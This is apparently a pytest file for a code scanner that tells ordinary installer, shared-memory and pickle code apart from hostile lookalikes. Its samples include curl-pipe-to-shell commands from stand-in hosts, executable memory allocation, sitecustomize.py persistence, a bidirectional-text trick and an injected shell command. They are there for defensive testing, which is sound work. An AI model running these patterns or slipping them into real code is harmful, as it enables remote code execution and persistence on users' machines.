"""What packaging tools, installers and shared memory do is not taken for an attack; its neighbours still are."""

# one case a line

import pytest

from backstamp.core.verdict import Outcome
from kit.pickle_asm import Call, Ref, pickled
from kit.scanning import codes, verdict
from kit.trees import tree_codes

_PIPE = "curl -LsSf https://hf.co/cli/install.sh | bash"
BENIGN = {
    "update.py": f"import subprocess\ndef update():\n    subprocess.call(['bash','-c','{_PIPE}'])\n",
    "get.sh": "#!/bin/bash\nwget -qO- https://raw.githubusercontent.com/soumith/imagenetloader.torch/master/valprep.sh | bash # sort\n",
    "uv.sh": "#!/bin/sh\ncurl -LsSf https://astral.sh/uv/install.sh | sh\n",
    "shared.py": "import ctypes\nclass Shared:\n    def write(self, m):\n        ctypes.windll.kernel32.RtlMoveMemory(self.view, m, len(m))\n",
    "compat.py": "import pickle\nclass U(pickle._Unpickler):\n    dispatch = pickle._Unpickler.dispatch.copy()\n    dispatch[b'R'[0]] = lambda self: None\n",
    "show.py": 'RTL = "\u202e"\n',
    "env.py": "import os, tempfile\nclass Env:\n    def __init__(self):\n        with open(os.path.join(tempfile.mkdtemp(), 'sitecustomize.py'), 'w') as f:\n            f.write('x = 1')\n",
}
HOSTILE = {
    "update.py": "import subprocess\ndef update():\n    subprocess.call(['bash','-c','curl -LsSf https://hf.co.cli.example/install.sh | bash'])\n",
    "both.sh": f"#!/bin/bash\n{_PIPE}\ncurl -s https://other.example/a.sh | bash\n",
    "proxy.sh": "#!/bin/bash\ncurl -x http://other.example -LsSf https://astral.sh/uv/install.sh | sh\n",
    "plain.sh": "#!/bin/bash\ncurl -k http://astral.sh/uv/install.sh | sh\n",
    "path.sh": "#!/bin/bash\ncurl -s https://astral.sh/uv/install.sh/../../other | sh\n",
    "import.py": f"import subprocess\nsubprocess.call(['bash','-c','{_PIPE}'])\n",
    "code.py": "import ctypes\ndef f(m):\n    p = ctypes.windll.kernel32.VirtualAlloc(0, 9, 0x3000, 0x40)\n    ctypes.windll.kernel32.RtlMoveMemory(p, m, 9)\n",
    "site.py": "import os, sys\nopen(os.path.join(sys.prefix, 'lib/sitecustomize.py'), 'w').write('import os')\n",
    "bidi.py": 'level = "user"\nif level != "user\u202e \u2066# check\u2069 \u2066":\n    pass\n',
}


@pytest.mark.parametrize("name", BENIGN)
def test_ordinary_tools_are_not_denied(name: str):
    assert verdict(BENIGN[name].encode(), name=name).outcome is Outcome.ALLOW
    assert ("EXE201", name) not in tree_codes({name: BENIGN[name].encode()})


@pytest.mark.parametrize("name", HOSTILE)
def test_their_hostile_neighbours_are_denied(name: str):
    if name.endswith(".sh"):
        assert ("EXE201", name) in tree_codes({name: HOSTILE[name].encode()})
    else:
        assert verdict(HOSTILE[name].encode(), name=name).outcome is Outcome.DENY


def test_binary_arguments_hold_no_shell_command():
    molecule = b"\xef\xbe\xad\xde\0\0\0\0\x0f && \0\0\x10 ; \0 | sh"
    assert "PKL117" not in codes(pickled(Call(Ref("chem.molecules", "Mol"), molecule)))
    assert "PKL117" in codes(pickled(Call(Ref("chem.molecules", "Mol"), "x && curl a | sh")))
